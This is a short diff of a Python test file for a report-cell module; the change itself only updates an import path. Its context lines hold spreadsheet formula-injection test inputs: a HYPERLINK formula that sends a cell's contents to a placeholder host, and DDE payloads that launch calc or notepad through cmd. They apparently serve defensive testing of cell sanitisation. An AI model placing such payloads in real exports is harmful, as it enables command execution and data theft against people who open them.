@@ -15,7 +15,7 @@ import io
 import pytest
 
 from tests.conftest import PARTIES
-from disputeflow.workflow.reports.cells import FORMULA_LEADS, text_cell
+from disputeflow.reports.cells import FORMULA_LEADS, text_cell
 
 HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
 HOSTILE_TITLES = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]
